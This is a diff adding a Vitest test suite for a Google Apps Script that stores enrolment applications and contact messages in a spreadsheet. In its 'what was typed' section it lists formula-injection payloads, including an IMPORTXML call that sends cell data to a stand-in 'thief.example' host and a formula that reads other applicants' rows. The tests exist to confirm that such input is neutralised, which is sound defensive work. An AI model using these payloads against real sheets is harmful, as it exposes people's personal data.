@@ -1,0 +1,273 @@
+import { describe, expect, test } from 'vitest';
+
+import { sampleApplication } from '../server/testing/sample-application.ts';
+import { sampleMessage } from '../server/testing/sample-message.ts';
+import { fieldNames } from '../src/features/enrolment/schema.ts';
+import { automatic } from './testing/cell.ts';
+import { directConnection, Google } from './testing/google.ts';
+import { post, runScript, scriptSource } from './testing/run-script.ts';
+import { recordsOf, rowsOf } from './testing/sheet.ts';
+import { applyWrite } from './testing/workbook.ts';
+
+const forwarded = {
+  ...sampleApplication,
+  reference: '4KX7-9QMD',
+  submittedAt: '2025-01-31T09:05:00.000Z',
+};
+const asCells = { ...forwarded, selectedCourses: sampleApplication.selectedCourses.join('; ') };
+
+/** The script with one thing broken. */
+function broken(what: string, instead: string): string {
+  expect(scriptSource).toContain(what);
+  return scriptSource.replace(what, instead);
+}
+
+/** A spreadsheet in which the staff have already written. */
+function sheetOfStaff(values: string[][], name = 'Applications'): Google {
+  const google = new Google();
+  const [rows, columns] = [values.length, values[0]!.length];
+  applyWrite(google.workbook, { kind: 'insertTab', tab: name });
+  const area = { tab: name, row: 1, column: 1, rows, columns };
+  applyWrite(google.workbook, { kind: 'values', area, values });
+  return google;
+}
+
+describe('a form that arrives', () => {
+  test('is a row under headings, and only then answered with success', () => {
+    const google = new Google();
+    expect(post(google, forwarded)).toEqual({ success: true });
+    expect(rowsOf(google, 'Applications')[0]).toEqual([
+      ...['reference', 'submittedAt', ...fieldNames, 'key'],
+    ]);
+    expect(recordsOf(google, 'Applications')).toEqual([{ ...asCells, key: '' }]);
+    expect(google.workbook.tabs[0]!.frozenRows).toBe(1);
+  });
+
+  test('is answered as JSON', () => {
+    const parameters = { data: [JSON.stringify(forwarded)] };
+    const { answer } = runScript(directConnection(new Google()), { entry: 'doPost', parameters });
+    expect(answer).toEqual({ content: '{"success":true}', mimeType: 'application/json' });
+  });
+
+  test('without reference and time has the time of its arrival', () => {
+    const google = new Google();
+    expect(post(google, sampleApplication)).toEqual({ success: true });
+    const [record] = recordsOf(google, 'Applications');
+    expect(record).toMatchObject({ reference: '', fullName: sampleApplication.fullName });
+    expect(Math.abs(Date.now() - Date.parse(String(record!.submittedAt)))).toBeLessThan(10_000);
+  });
+
+  test('is told apart by its fields: a contact message has a tab of its own', () => {
+    const google = new Google();
+    expect(post(google, { ...sampleMessage, reference: '2222-3333' })).toEqual({ success: true });
+    expect(recordsOf(google, 'Messages')).toMatchObject([
+      { ...sampleMessage, reference: '2222-3333' },
+    ]);
+    expect(google.workbook.tabs).toHaveLength(1);
+  });
+
+  test('may name a hundred courses', () => {
+    const google = new Google();
+    const selectedCourses = Array.from({ length: 100 }, (_, at) => `${at}`.padEnd(200, 'x'));
+    expect(post(google, { ...forwarded, selectedCourses })).toEqual({ success: true });
+    expect(recordsOf(google, 'Applications')[0]!.selectedCourses).toBe(selectedCourses.join('; '));
+    const tooMany = { ...forwarded, reference: 'A', selectedCourses: [...selectedCourses, 'more'] };
+    expect(post(google, tooMany).success).toBe(false);
+  });
+});
+
+describe('the same form twice makes one row', () => {
+  test('where it is sent on with its reference', () => {
+    const google = new Google();
+    for (let time = 0; time < 3; time += 1) {
+      expect(post(google, forwarded)).toEqual({ success: true });
+    }
+    expect(recordsOf(google, 'Applications')).toHaveLength(1);
+  });
+
+  test('where a browser sends it, on the same day', () => {
+    const google = new Google();
+    const reordered = Object.fromEntries(Object.entries(sampleApplication).reverse());
+    expect(post(google, sampleApplication)).toEqual({ success: true });
+    expect(post(google, reordered)).toEqual({ success: true });
+    expect(recordsOf(google, 'Applications')).toHaveLength(1);
+  });
+
+  test('but the same answers under another reference, or other answers, make another', () => {
+    const google = new Google();
+    post(google, forwarded);
+    post(google, { ...forwarded, reference: '2222-3333' });
+    post(google, sampleApplication);
+    post(google, { ...sampleApplication, city: 'Ely' });
+    expect(recordsOf(google, 'Applications')).toHaveLength(4);
+  });
+
+  test('(without the check of the key, it would make two)', () => {
+    const google = new Google();
+    const source = broken('if (earlier.some(', 'if (false && earlier.some(');
+    post(google, forwarded, source);
+    post(google, forwarded, source);
+    expect(recordsOf(google, 'Applications')).toHaveLength(2);
+  });
+});
+
+describe('a sheet that the staff have changed', () => {
+  test('keeps their columns, their order and their rows; only missing headings are added', () => {
+    const google = sheetOfStaff([
+      ['Called?', 'City', 'fullName', 'Notes'],
+      ['yes', 'Bath', 'Ann Earlier', 'likes mornings'],
+    ]);
+    expect(post(google, forwarded)).toEqual({ success: true });
+    const [headings, earlier, added] = rowsOf(google, 'Applications');
+    expect(headings!.slice(0, 6)).toEqual([
+      ...['Called?', 'City', 'fullName', 'Notes', 'reference', 'submittedAt'],
+    ]);
+    expect(new Set(headings!.map((heading) => String(heading).toLowerCase())).size).toBe(20);
+    expect(earlier!.slice(0, 4)).toEqual(['yes', 'Bath', 'Ann Earlier', 'likes mornings']);
+    expect(added!.slice(0, 4)).toEqual(['', 'Leeds', forwarded.fullName, '']);
+  });
+
+  test('keeps the formats of their own columns', () => {
+    const google = sheetOfStaff([['Called?', 'city']]);
+    const area = { tab: 'Applications', row: 2, column: 1, rows: 1, columns: 2 };
+    applyWrite(google.workbook, { kind: 'formats', area, formats: [['d mmm', '@']] });
+    post(google, { ...forwarded, city: '01' });
+    const { cells } = google.workbook.tabs[0]!;
+    expect(cells.get('2,1')!.format).toBe('d mmm');
+    expect(cells.get('2,2')).toEqual({ value: '01', formula: '', format: automatic });
+  });
+
+  test('grows when it is full, in rows and in columns', () => {
+    const google = sheetOfStaff([['Called?', 'Notes']]);
+    Object.assign(google.workbook.tabs[0]!, { rows: 1, columns: 2 });
+    expect(post(google, forwarded)).toEqual({ success: true });
+    expect(recordsOf(google, 'Applications')).toMatchObject([{ ...asCells, 'Called?': '' }]);
+  });
+});
+
+describe('what was typed', () => {
+  const hostile = [
+    '=A2&B2',
+    '=IMPORTXML("https://thief.example/?"&C2,"//a")',
+    '+A2',
+    '-A2',
+    '@A2',
+    '\t=A2',
+    '\r=A2',
+    "'=A2",
+    '01632960001',
+    '+447700900123',
+    '1/2',
+    '2025-03-01',
+    'May 2025',
+    'TRUE',
+    '10%',
+    '£100',
+    '1e5',
+    "''quoted''",
+    '  ',
+  ];
+
+  test.each(hostile)('stands in its cell letter for letter: %j', (typed) => {
+    const google = new Google();
+    const form = { ...forwarded, businessName: typed, additionalRequirements: `${typed}\n=A2` };
+    expect(post(google, form)).toEqual({ success: true });
+    expect(recordsOf(google, 'Applications')[0]).toMatchObject({
+      businessName: typed.trim(),
+      additionalRequirements: `${typed}\n=A2`.trim(),
+    });
+    expect([...google.workbook.tabs[0]!.cells.values()].some(({ formula }) => formula)).toBe(false);
+  });
+
+  test('(would read other people’s rows if cells were not neutralised)', () => {
+    const google = new Google();
+    post(google, forwarded);
+    const open = broken("`'${text}`", 'text').replace(
+      "formulas[columns[name] - 1] !== ''",
+      'false',
+    );
+    const spy = {
+      ...forwarded,
+      reference: '2222-3333',
+      businessName: '=C2&" "&D2',
+      mobile: '01632960001',
+    };
+    post(google, spy, open);
+    const [, spied] = recordsOf(google, 'Applications');
+    expect(spied!.businessName).toBe(`${forwarded.fullName},${forwarded.email}`);
+    expect(spied!.mobile).toBe(1_632_960_001);
+  });
+
+  test('is removed, and refused, should it ever have become a formula', () => {
+    const google = new Google();
+    const open = broken("`'${text}`", 'text');
+    const { success } = post(google, { ...forwarded, businessName: '=C2' }, open);
+    expect(success).toBe(false);
+    expect(recordsOf(google, 'Applications')).toEqual([]);
+  });
+});
+
+describe('a failure is answered as one', () => {
+  test.each([
+    ['Range.setValues', 'Service invoked too many times for one day: spreadsheets.', /allowance/],
+    ['SpreadsheetApp.flush', 'Service invoked too many times in a short time.', /allowance/],
+    ['LockService.getScriptLock', 'You do not have permission to call this.', /run install/],
+    ['Lock.tryLock', 'There are too many LockService operations against the same script.', /again/],
+    ['Range.setValues', 'The cell violates the data validation rules set on it.', /A rule/],
+    ['Sheet.getLastRow', 'Service Spreadsheets failed while accessing document.', /Executions/],
+    ['SpreadsheetApp.getActiveSpreadsheet', 'A surprise', /Executions/],
+  ])('when %s throws “%s”', (service, words, sentence) => {
+    const google = new Google();
+    google.fault = (called) => (called === service ? words : undefined);
+    const answer = post(google, forwarded);
+    expect(answer).toEqual({ success: false, error: expect.stringMatching(sentence) as string });
+    google.fault = () => undefined;
+    expect(google.lockNow({})).toBe(true);
+  });
+
+  test('and what failed half way is one row after it was sent again', () => {
+    const google = new Google();
+    google.fault = (called) => (called === 'SpreadsheetApp.flush' ? 'quota' : undefined);
+    expect(post(google, forwarded).success).toBe(false);
+    google.fault = () => undefined;
+    expect(post(google, forwarded).success).toBe(true);
+    expect(recordsOf(google, 'Applications')).toHaveLength(1);
+  });
+
+  test('when the lock is held for too long', () => {
+    const google = new Google();
+    google.lockNow({ another: 'run' });
+    expect(post(google, forwarded)).toEqual({
+      success: false,
+      error: expect.stringContaining('busy') as string,
+    });
+    expect(google.workbook.tabs).toEqual([]);
+  });
+
+  test('but a lock that does not open again takes nothing back', () => {
+    const google = new Google();
+    google.fault = (called) => (called === 'Lock.releaseLock' ? 'Surprise' : undefined);
+    expect(post(google, forwarded)).toEqual({ success: true });
+    expect(recordsOf(google, 'Applications')).toHaveLength(1);
+  });
+});
+
+describe('by hand', () => {
+  const run = (google: Google, entry: 'doGet' | 'install') =>
+    runScript(directConnection(google), { entry });
+
+  test('opening the address says that it works and stores nothing', () => {
+    const google = new Google();
+    expect(run(google, 'doGet').answer!.content).toMatch(/^The script is installed/);
+    expect(google.workbook.tabs).toEqual([]);
+  });
+
+  test('install makes both tabs, says so, and changes nothing the second time', () => {
+    const google = new Google();
+    expect(run(google, 'install').log).toEqual(['Ready. Now choose Deploy, New deployment.']);
+    const tabs = structuredClone(google.workbook.tabs);
+    expect(tabs.map(({ name }) => name)).toEqual(['Applications', 'Messages']);
+    run(google, 'install');
+    expect(google.workbook.tabs).toEqual(tabs);
+  });
+});
